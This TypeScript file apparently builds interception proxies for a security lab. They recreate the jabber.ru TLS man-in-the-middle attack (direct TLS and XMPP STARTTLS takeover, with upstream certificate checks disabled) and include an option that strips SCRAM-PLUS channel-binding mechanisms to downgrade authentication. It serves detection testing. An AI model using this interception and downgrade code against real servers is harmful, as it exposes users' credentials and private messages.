// Interception proxies for the lab's attack scenarios, the way the jabber.ru interceptor
// worked: accept the client's connection, terminate TLS with a key of the attacker's own (in a
// certificate from the same trusted CA), open TLS to the real server, relay the cleartext.
//
// Modes:
//  - relay:          plain TCP relay, no interception (the "untouched" ports of a scenario);
//  - direct-tls:     TLS from the first byte (XEP-0368 direct TLS, 993, 995, 443, ...);
//  - xmpp-starttls:  relay the XMPP stream until the server's <proceed/>, then intercept.
// Options for the SASL scenarios: `careful` is an attacker who leaves no TLS trace — Node's
// default suites (no anonymous ones), and upstream the version the client negotiated, so the
// server offers what it would offer the client — and `stripPlus` removes SCRAM-*-PLUS and the XEP-0440 list from the first stream features
// after TLS (a downgrade to SASL without channel binding).
import { createServer, connect as tcpConnect, type Server, type Socket } from 'node:net';
import { connect as tlsConnect, TLSSocket, type SecureContextOptions, type SecureVersion } from 'node:tls';

export type ProxyMode = 'relay' | 'direct-tls' | 'xmpp-starttls';

export interface ProxySpec {
  listen: { host: string; port: number };
  upstream: { host: string; port: number };
  mode: ProxyMode;
  /** The attacker's certificate chain and key (ignored for `relay`). */
  tls?: Pick<SecureContextOptions, 'cert' | 'key'>;
  /** Server name sent upstream when the client sent none. */
  servername?: string;
  /** Default suites only, and upstream TLS with the client's negotiated version. */
  careful?: boolean;
  /** Drop SCRAM-*-PLUS and <sasl-channel-binding/> from the server's stream features after TLS. */
  stripPlus?: boolean;
}

/** The features without -PLUS mechanisms and without the XEP-0440 element. */
export function stripPlusFromFeatures(xml: string): string {
  return xml
    .replace(/<mechanism>\s*SCRAM-[A-Za-z0-9-]+-PLUS\s*<\/mechanism>/g, '')
    .replace(/<sasl-channel-binding\b[^>]*\/>|<sasl-channel-binding\b[\s\S]*?<\/sasl-channel-binding>/g, '');
}

/**
 * Like splice, but the server's bytes are held back until its first <stream:features> is
 * complete (64 KiB at most), which is forwarded with -PLUS stripped; then plain relaying.
 */
function spliceStripping(client: Socket, server: Socket): void {
  client.pipe(server);
  let held = '';
  let passed = false;
  server.on('data', (b: Buffer) => {
    if (passed) return void client.write(b);
    held += b.toString('latin1');
    if (!/<\/stream:features>|<stream:features[^>]*\/>/.test(held) && held.length < 65_536) return;
    passed = true;
    client.write(Buffer.from(stripPlusFromFeatures(held), 'latin1'));
    held = '';
  });
  const end = () => {
    client.destroy();
    server.destroy();
  };
  client.once('close', end);
  server.once('close', end);
  client.on('error', end);
  server.on('error', end);
}

export interface Proxy {
  spec: ProxySpec;
  /** Connections accepted so far, and how many were intercepted (TLS terminated here). */
  stats: { accepted: number; intercepted: number };
  close(): Promise<void>;
}

function splice(a: Socket, b: Socket): void {
  a.pipe(b);
  b.pipe(a);
  const end = () => {
    a.destroy();
    b.destroy();
  };
  a.once('close', end);
  b.once('close', end);
  a.on('error', end);
  b.on('error', end);
}

export async function startProxy(spec: ProxySpec): Promise<Proxy> {
  const sockets = new Set<Socket>();
  const stats = { accepted: 0, intercepted: 0 };
  const track = <S extends Socket>(s: S): S => {
    sockets.add(s);
    s.once('close', () => sockets.delete(s));
    return s;
  };
  if (spec.mode !== 'relay' && !spec.tls) throw new Error(`proxy ${spec.mode} needs a certificate`);

  const intercept = (client: Socket, upstream: Socket | undefined) => {
    stats.intercepted++;
    // Like the jabber.ru interceptor, a stock TLS stack that also accepts anonymous and NULL
    // suites, which the real servers refuse: a difference in TLS parameters keywatch must see.
    const clientTls = track(new TLSSocket(client, { isServer: true, ...(spec.careful ? {} : { ciphers: 'ALL:aNULL:eNULL@SECLEVEL=0', dhparam: 'auto' }), ...spec.tls }));
    clientTls.on('error', () => client.destroy());
    clientTls.once('secure', () => {
      const servername = clientTls.servername || spec.servername;
      const version = spec.careful ? (clientTls.getProtocol() as SecureVersion | null) : null;
      const upTls = track(
        tlsConnect({
          ...(upstream ? { socket: upstream } : { host: spec.upstream.host, port: spec.upstream.port }),
          ...(servername ? { servername } : {}),
          ...(version ? { minVersion: version, maxVersion: version } : {}),
          rejectUnauthorized: false,
        }),
      );
      upTls.once('secureConnect', () => (spec.stripPlus ? spliceStripping(clientTls, upTls) : splice(clientTls, upTls)));
      upTls.on('error', () => clientTls.destroy());
    });
  };

  const server: Server = createServer((client) => {
    stats.accepted++;
    track(client);
    client.on('error', () => client.destroy());
    if (spec.mode === 'direct-tls') return intercept(client, undefined);
    const upstream = track(tcpConnect(spec.upstream));
    if (spec.mode === 'relay') return splice(client, upstream);

    // xmpp-starttls: relay both ways until the server says <proceed/>.
    let seen = '';
    const fromClient = (b: Buffer) => upstream.write(b);
    const fromServer = (b: Buffer) => {
      seen = (seen + b.toString('latin1')).slice(-4096);
      if (!/<proceed[\s/>]/.test(seen)) {
        client.write(b);
        return;
      }
      // Take both sockets over before the client's ClientHello can arrive.
      client.off('data', fromClient);
      upstream.off('data', fromServer);
      client.pause();
      client.write(b);
      intercept(client, upstream);
    };
    client.on('data', fromClient);
    upstream.on('data', fromServer);
    const end = () => {
      client.destroy();
      upstream.destroy();
    };
    upstream.on('error', end);
    client.once('close', () => upstream.destroy());
    upstream.once('close', () => client.destroy());
  });

  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(spec.listen.port, spec.listen.host, () => resolve());
  });
  return {
    spec,
    stats,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
